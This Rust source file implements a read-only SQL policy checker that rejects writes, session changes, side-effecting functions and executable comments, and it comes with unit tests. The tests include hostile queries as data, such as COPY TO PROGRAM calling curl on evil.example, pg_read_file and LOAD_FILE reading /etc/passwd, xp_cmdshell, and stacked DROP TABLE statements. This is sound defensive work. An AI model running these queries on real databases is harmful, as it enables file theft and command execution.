//! A read-only policy, checked on the syntax tree (not with regular expressions, so a column
//! named `sleep` or a string saying `DROP TABLE` is not flagged).
//!
//! A query passes when it is exactly one statement, a query, that reads: no DDL, DML, DCL,
//! transaction or session statements, no data-modifying CTEs, no `SELECT ... INTO`, no locking
//! reads, and no call to a function with side effects (`functions`: stalling the server, files,
//! programs, other servers, the session, administration, writes, SQL given as text). Text that
//! does not parse fails: what cannot be read cannot be trusted. Injection shapes in a query that
//! passes are reported as warnings (`injection`).

use std::ops::ControlFlow;

use serde::{Deserialize, Serialize};
use sqlparser::ast::{
    BinaryOperator, CopyTarget, Expr, ObjectName, Query, Select, Spanned, Statement, TableFactor,
    Visit, Visitor,
};
use sqlparser::tokenizer::{Span, Token, Tokenizer};

use super::{ParseLimits, SqlDialect, parse};

mod functions;
mod injection;

use functions::Position;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ViolationKind {
    Unparseable,
    MultipleStatements,
    Ddl,
    Dml,
    Dcl,
    Transaction,
    Session,
    DatabaseAttachment,
    ProcedureCall,
    OtherStatement,
    DataModifyingCte,
    SelectInto,
    LockingRead,
    DangerousFunction,
    ProgramExecution,
    /// A KQL management command.
    ManagementCommand,
    /// A MySQL or MariaDB executable comment (`/*! ... */`, `/*M! ... */`): the server runs
    /// what it holds.
    ExecutableComment,
    /// A warning: a condition made always true (`OR '1'='1'`).
    Tautology,
    /// A warning: query text cut off by a trailing comment.
    CommentedOutCode,
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct Violation {
    pub kind: ViolationKind,
    pub reason: String,
    /// Where in the query it is, when that is known: the editors mark it there.
    #[serde(skip_serializing_if = "Option::is_none")]
    pub place: Option<Place>,
}

/// A stretch of query text: the 1-based line and column of its first character and of the
/// character just after it, counted in characters as parse errors count them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub struct Place {
    pub line: u64,
    pub column: u64,
    pub end_line: u64,
    pub end_column: u64,
}

impl Place {
    /// The place of a syntax node or token; `None` for the empty span sqlparser gives nodes
    /// whose position it does not track.
    pub fn of(span: Span) -> Option<Place> {
        (span.start.line > 0 && span.start.column > 0).then_some(Place {
            line: span.start.line,
            column: span.start.column,
            end_line: span.end.line.max(span.start.line),
            end_column: if span.end.line > span.start.line {
                span.end.column
            } else {
                span.end.column.max(span.start.column + 1)
            },
        })
    }

    /// One character at a 1-based line and column (a parse error's spot).
    pub fn at(line: Option<u64>, column: Option<u64>) -> Option<Place> {
        let (line, column) = (line?, column?);
        (line > 0 && column > 0).then_some(Place {
            line,
            column,
            end_line: line,
            end_column: column + 1,
        })
    }
}

#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct SafetyReport {
    pub safe: bool,
    pub violations: Vec<Violation>,
    /// Injection shapes in a query that writes nothing (see `injection`): reported, not failed.
    #[serde(skip_serializing_if = "Vec::is_empty")]
    pub warnings: Vec<Violation>,
}

impl SafetyReport {
    /// The parse error, when the query does not parse: its safety is then not known (not safe,
    /// and not unsafe either: valid SQL the parser cannot read is not a violation).
    pub fn parse_error(&self) -> Option<&Violation> {
        match self.violations.as_slice() {
            [only] if only.kind == ViolationKind::Unparseable => Some(only),
            _ => None,
        }
    }
}

/// Checks `sql` against the read-only policy.
pub fn check_read_only(sql: &str, dialect: SqlDialect, limits: ParseLimits) -> SafetyReport {
    let statements = match parse(sql, dialect, limits) {
        Ok(statements) => statements,
        Err(err) => {
            return report(vec![Violation {
                kind: ViolationKind::Unparseable,
                reason: format!("The query does not parse, so its safety is not known ({err})"),
                place: Place::at(err.line, err.column),
            }]);
        }
    };
    let starts = statement_starts(sql, dialect);
    let mut checker = Checker {
        dialect,
        violations: Vec::new(),
        depth: 0,
        statement_start: None,
    };
    if statements.len() > 1 {
        checker.statement_start = starts.get(1).copied();
        checker.flag(
            ViolationKind::MultipleStatements,
            format!(
                "{} statements in one query: only one is allowed",
                statements.len()
            ),
            Span::empty(),
        );
    }
    for (index, statement) in statements.iter().enumerate() {
        checker.statement_start = starts.get(index).copied();
        let _ = statement.visit(&mut checker);
    }
    if matches!(dialect, SqlDialect::Mysql | SqlDialect::Generic) {
        checker.violations.extend(executable_comments(sql, dialect));
    }
    let mut report = report(checker.violations);
    report.warnings = injection::warnings(sql, dialect, &statements);
    report
}

/// MySQL's and MariaDB's executable comments: `/*! ... */` (and `/*!50000 ... */`) and
/// `/*M! ... */` hold SQL the server runs, which the parser saw as a comment.
fn executable_comments(sql: &str, dialect: SqlDialect) -> Vec<Violation> {
    let Ok(tokens) = Tokenizer::new(dialect.parser_dialect(), sql).tokenize_with_location() else {
        return Vec::new();
    };
    tokens
        .iter()
        .filter_map(|token| match &token.token {
            Token::Whitespace(sqlparser::tokenizer::Whitespace::MultiLineComment(text))
                if text.starts_with('!') || text.starts_with("M!") =>
            {
                Some(Violation {
                    kind: ViolationKind::ExecutableComment,
                    reason: "An executable comment (/*! ... */) runs its SQL on MySQL and MariaDB"
                        .to_string(),
                    place: Place::of(token.span),
                })
            }
            _ => None,
        })
        .collect()
}

/// The first token of each statement in `sql` (its keyword): sqlparser tracks no position for
/// many statement kinds, and the keyword is what a reader looks for.
fn statement_starts(sql: &str, dialect: SqlDialect) -> Vec<Place> {
    let Ok(tokens) = Tokenizer::new(dialect.parser_dialect(), sql).tokenize_with_location() else {
        return Vec::new();
    };
    let mut starts = Vec::new();
    let mut at_start = true;
    for token in tokens {
        match token.token {
            Token::Whitespace(_) => {}
            Token::SemiColon => at_start = true,
            _ if at_start => {
                at_start = false;
                starts.extend(Place::of(token.span));
            }
            _ => {}
        }
    }
    starts
}

fn report(violations: Vec<Violation>) -> SafetyReport {
    SafetyReport {
        safe: violations.is_empty(),
        violations,
        warnings: Vec::new(),
    }
}

struct Checker {
    dialect: SqlDialect,
    violations: Vec<Violation>,
    /// Statements being visited: above 1, a statement is nested in a query (a CTE).
    depth: usize,
    /// Where the top-level statement being visited starts: the place of a finding whose node
    /// has no position of its own.
    statement_start: Option<Place>,
}

impl Checker {
    fn flag(&mut self, kind: ViolationKind, reason: String, span: Span) {
        if !self
            .violations
            .iter()
            .any(|v| v.kind == kind && v.reason == reason)
        {
            let place = Place::of(span).or(self.statement_start);
            self.violations.push(Violation {
                kind,
                reason,
                place,
            });
        }
    }

    fn check_function(&mut self, name: &ObjectName, position: Position) {
        let full = name
            .to_string()
            .to_lowercase()
            .replace(['"', '`', '[', ']'], "");
        // `U&"pg\005fread\005ffile"` is `pg_read_file` to Postgres: names are matched as the
        // database reads them, Unicode escapes decoded.
        let decoded = unicode_unescaped(&full);
        let name_read = decoded.as_deref().unwrap_or(&full);
        if let Some(class) = functions::side_effect(name_read, self.dialect, position) {
            self.flag(
                ViolationKind::DangerousFunction,
                format!("Calls {name_read}(), which {}", class.why()),
                name.span(),
            );
        }
    }

    /// A table read from a file or URL named in place of a table: DuckDB's replacement scans
    /// (`FROM 'x.parquet'`, `FROM 'https://.../x.csv'`) and Snowflake's stages (`FROM @stage`).
    fn check_table_source(&mut self, name: &ObjectName) {
        let parts: Vec<&sqlparser::ast::Ident> =
            name.0.iter().filter_map(|part| part.as_ident()).collect();
        let duckdb = matches!(self.dialect, SqlDialect::Duckdb | SqlDialect::Generic);
        let snowflake = matches!(self.dialect, SqlDialect::Snowflake | SqlDialect::Generic);
        let reason = match parts.as_slice() {
            [first, ..] if snowflake && first.value.starts_with('@') => {
                Some(format!("FROM {name} reads files from a stage"))
            }
            [only]
                if duckdb && (only.quote_style == Some('\'') || looks_like_a_file(&only.value)) =>
            {
                Some(format!(
                    "FROM '{}' reads a file or URL (a replacement scan), not a table",
                    only.value
                ))
            }
            _ => None,
        };
        if let Some(reason) = reason {
            self.flag(ViolationKind::DangerousFunction, reason, name.span());
        }
    }
}

/// Whether a table name is a path or a URL: a separator, a scheme, or a data file's extension.
fn looks_like_a_file(name: &str) -> bool {
    const EXTENSIONS: &[&str] = &[
        ".csv", ".tsv", ".parquet", ".json", ".jsonl", ".ndjson", ".xlsx", ".arrow", ".gz", ".zst",
        ".txt", ".db", ".sqlite", ".duckdb", ".shp", ".gpkg", ".avro",
    ];
    let lower = name.to_lowercase();
    lower.contains('/')
        || lower.contains('\\')
        || lower.contains("://")
        || EXTENSIONS.iter().any(|e| lower.ends_with(e))
}

/// A name with its Unicode escapes decoded, as `U&"..."` spells them: `\XXXX` (four hex digits),
/// `\+XXXXXX` (six) and `\\`. `None` when there is nothing to decode.
fn unicode_unescaped(name: &str) -> Option<String> {
    if !name.contains('\\') {
        return None;
    }
    let mut out = String::with_capacity(name.len());
    let mut rest = name;
    while let Some(at) = rest.find('\\') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let (digits, skip) = if let Some(six) = after.strip_prefix('+') {
            (six.get(..6), 7)
        } else {
            (after.get(..4), 4)
        };
        match digits
            .and_then(|d| u32::from_str_radix(d, 16).ok())
            .and_then(char::from_u32)
        {
            Some(c) => {
                out.push(c);
                rest = &after[skip..];
            }
            None if after.starts_with('\\') => {
                out.push('\\');
                rest = &after[1..];
            }
            None => {
                out.push('\\');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    (out != name).then_some(out)
}

/// The first words of a statement's SQL, which name its kind (`CREATE TABLE`, `GRANT`, ...).
fn statement_kind(statement: &Statement) -> (ViolationKind, String) {
    let text = statement.to_string();
    let words: Vec<String> = text
        .split_whitespace()
        .take(2)
        .map(|w| w.to_uppercase())
        .collect();
    let first = words.first().map(String::as_str).unwrap_or_default();
    let what = words.join(" ");
    let kind = match first {
        "CREATE" | "ALTER" | "DROP" | "TRUNCATE" | "RENAME" | "COMMENT" | "VACUUM" | "ANALYZE"
        | "REINDEX" | "CLUSTER" => ViolationKind::Ddl,
        "INSERT" | "UPDATE" | "DELETE" | "MERGE" | "REPLACE" | "UPSERT" | "COPY" | "LOAD"
        | "UNLOAD" | "PUT" | "REMOVE" => ViolationKind::Dml,
        "GRANT" | "REVOKE" | "DENY" => ViolationKind::Dcl,
        "BEGIN" | "START" | "COMMIT" | "ROLLBACK" | "SAVEPOINT" | "RELEASE" | "END" | "ABORT"
        | "LOCK" | "UNLOCK" => ViolationKind::Transaction,
        "SET" | "USE" | "RESET" | "DISCARD" | "DECLARE" | "PREPARE" | "DEALLOCATE" => {
            ViolationKind::Session
        }
        "ATTACH" | "DETACH" | "INSTALL" => ViolationKind::DatabaseAttachment,
        "CALL" | "EXEC" | "EXECUTE" => ViolationKind::ProcedureCall,
        _ => ViolationKind::OtherStatement,
    };
    let label = match kind {
        ViolationKind::Ddl => "changes the schema (DDL)",
        ViolationKind::Dml => "changes data (DML)",
        ViolationKind::Dcl => "changes permissions (DCL)",
        ViolationKind::Transaction => "controls transactions or locks",
        ViolationKind::Session => "changes the session",
        ViolationKind::DatabaseAttachment => "attaches a database or extension",
        ViolationKind::ProcedureCall => "runs a procedure",
        _ => "is not a read-only query",
    };
    (kind, format!("{what} {label}"))
}

/// SQL Server table hints that take update or exclusive locks, or hold locks to the end of the
/// transaction.
const LOCK_HINTS: &[&str] = &[
    "UPDLOCK",
    "XLOCK",
    "HOLDLOCK",
    "TABLOCKX",
    "TABLOCK",
    "PAGLOCK",
    "SERIALIZABLE",
    "REPEATABLEREAD",
];

impl Visitor for Checker {
    type Break = ();

    fn pre_visit_statement(&mut self, statement: &Statement) -> ControlFlow<()> {
        self.depth += 1;
        match statement {
            Statement::Query(_) => {}
            Statement::Copy {
                target: CopyTarget::Program { command },
                ..
            } => {
                self.flag(
                    ViolationKind::ProgramExecution,
                    format!("COPY ... PROGRAM runs a shell command ({command:?})"),
                    Span::empty(),
                );
            }
            other => {
                let (kind, reason) = statement_kind(other);
                if self.depth > 1 {
                    self.flag(
                        ViolationKind::DataModifyingCte,
                        format!("Inside the query, {reason}"),
                        other.span(),
                    );
                } else {
                    self.flag(kind, reason, Span::empty());
                }
            }
        }
        ControlFlow::Continue(())
    }

    fn post_visit_statement(&mut self, _statement: &Statement) -> ControlFlow<()> {
        self.depth -= 1;
        ControlFlow::Continue(())
    }

    fn pre_visit_query(&mut self, query: &Query) -> ControlFlow<()> {
        // A query nested in a statement: statements met below it are inside the query.
        self.depth += 1;
        if !query.locks.is_empty() {
            self.flag(
                ViolationKind::LockingRead,
                "FOR UPDATE/SHARE takes row locks".to_string(),
                Span::empty(),
            );
        }
        ControlFlow::Continue(())
    }

    fn post_visit_query(&mut self, _query: &Query) -> ControlFlow<()> {
        self.depth -= 1;
        ControlFlow::Continue(())
    }

    fn pre_visit_select(&mut self, select: &Select) -> ControlFlow<()> {
        if let Some(into) = &select.into {
            self.flag(
                ViolationKind::SelectInto,
                format!("SELECT ... {into} writes a new table"),
                into.targets.first().map_or(Span::empty(), Spanned::span),
            );
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_expr(&mut self, expr: &Expr) -> ControlFlow<()> {
        match expr {
            Expr::Function(function) => self.check_function(&function.name, Position::Anywhere),
            // MySQL's `@a := 1` in a query sets a session variable.
            Expr::BinaryOp {
                op: BinaryOperator::Assignment,
                ..
            } => self.flag(
                ViolationKind::Session,
                "`:=` assigns a session variable".to_string(),
                expr.span(),
            ),
            _ => {}
        }
        ControlFlow::Continue(())
    }

    fn pre_visit_table_factor(&mut self, factor: &TableFactor) -> ControlFlow<()> {
        match factor {
            TableFactor::Table {
                name,
                args: Some(_),
                ..
            }
            | TableFactor::Function { name, .. } => self.check_function(name, Position::Table),
            TableFactor::Table {
                name, with_hints, ..
            } => {
                self.check_table_source(name);
                for hint in with_hints {
                    let word = hint.to_string().to_uppercase();
                    if LOCK_HINTS.contains(&word.as_str()) {
                        self.flag(
                            ViolationKind::LockingRead,
                            format!("WITH ({word}) takes locks a read does not need"),
                            hint.span(),
                        );
                    }
                }
            }
            _ => {}
        }
        ControlFlow::Continue(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn verdict(dialect: SqlDialect, sql: &str) -> SafetyReport {
        check_read_only(sql, dialect, ParseLimits::default())
    }

    fn unsafe_because(dialect: SqlDialect, sql: &str, kind: ViolationKind) {
        let report = verdict(dialect, sql);
        assert!(!report.safe, "{sql} passed");
        assert!(
            report.violations.iter().any(|v| v.kind == kind),
            "{sql}: {:?}",
            report.violations
        );
        assert!(report.violations.iter().all(|v| !v.reason.is_empty()));
    }

    #[test]
    fn plain_reads_pass() {
        for sql in [
            "SELECT * FROM users",
            "WITH a AS (SELECT 1) SELECT * FROM a",
            "SELECT sleep, benchmark FROM timings WHERE note = 'DROP TABLE users; --'",
            "SELECT * FROM drop_log JOIN \"delete\" ON true",
            "SELECT COUNT(*) FROM orders GROUP BY status HAVING COUNT(*) > 1 ORDER BY 1 LIMIT 5",
        ] {
            let report = verdict(SqlDialect::Generic, sql);
            assert!(report.safe, "{sql}: {:?}", report.violations);
        }
    }

    #[test]
    fn statements_that_write_or_control_fail() {
        use ViolationKind::*;
        unsafe_because(SqlDialect::Generic, "DROP TABLE users", Ddl);
        unsafe_because(SqlDialect::Generic, "CREATE TABLE t (a INT)", Ddl);
        unsafe_because(SqlDialect::Generic, "ALTER TABLE t ADD COLUMN b INT", Ddl);
        unsafe_because(SqlDialect::Generic, "TRUNCATE TABLE t", Ddl);
        unsafe_because(SqlDialect::Generic, "INSERT INTO t VALUES (1)", Dml);
        unsafe_because(SqlDialect::Generic, "UPDATE t SET a = 1", Dml);
        unsafe_because(SqlDialect::Generic, "DELETE FROM t", Dml);
        unsafe_because(SqlDialect::Postgres, "GRANT SELECT ON t TO bob", Dcl);
        unsafe_because(SqlDialect::Postgres, "REVOKE SELECT ON t FROM bob", Dcl);
        unsafe_because(SqlDialect::Generic, "BEGIN", Transaction);
        unsafe_because(SqlDialect::Generic, "COMMIT", Transaction);
        unsafe_because(SqlDialect::Postgres, "SET search_path TO evil", Session);
        unsafe_because(
            SqlDialect::Sqlite,
            "ATTACH DATABASE '/tmp/x.db' AS x",
            DatabaseAttachment,
        );
        unsafe_because(
            SqlDialect::Sqlite,
            "PRAGMA writable_schema = 1",
            OtherStatement,
        );
        unsafe_because(
            SqlDialect::Generic,
            "SELECT 1; DROP TABLE users",
            MultipleStatements,
        );
        unsafe_because(SqlDialect::Generic, "SELEC * FROM", Unparseable);
    }

    #[test]
    fn writes_hidden_in_queries_fail() {
        use ViolationKind::*;
        unsafe_because(
            SqlDialect::Postgres,
            "WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
            DataModifyingCte,
        );
        unsafe_because(
            SqlDialect::Postgres,
            "SELECT * INTO backup FROM users",
            SelectInto,
        );
        unsafe_because(
            SqlDialect::Postgres,
            "SELECT * FROM users FOR UPDATE",
            LockingRead,
        );
        unsafe_because(
            SqlDialect::Postgres,
            "COPY users TO PROGRAM 'curl evil.example'",
            ProgramExecution,
        );
    }

    #[test]
    fn dangerous_functions_fail_per_dialect() {
        use ViolationKind::DangerousFunction;
        unsafe_because(SqlDialect::Mysql, "SELECT SLEEP(10)", DangerousFunction);
        unsafe_because(
            SqlDialect::Mysql,
            "SELECT BENCHMARK(1000000, MD5('x'))",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Mysql,
            "SELECT LOAD_FILE('/etc/passwd')",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Postgres,
            "SELECT pg_sleep(5)",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Postgres,
            "SELECT pg_read_file('/etc/passwd')",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Postgres,
            "SELECT * FROM dblink('host=x', 'select 1') AS t(a int)",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Mssql,
            "SELECT * FROM OPENROWSET('SQLNCLI', 'x', 'SELECT 1')",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Mssql,
            "SELECT xp_cmdshell('dir')",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Sqlite,
            "SELECT load_extension('evil.so')",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Sqlite,
            "SELECT readfile('/etc/passwd')",
            DangerousFunction,
        );
        unsafe_because(
            SqlDialect::Duckdb,
            "SELECT * FROM read_csv('/etc/passwd')",
            DangerousFunction,
        );
        // In PostgreSQL there is no sleep(): a user function of that name is not flagged there.
        assert!(verdict(SqlDialect::Postgres, "SELECT sleep(1)").safe);
    }
}
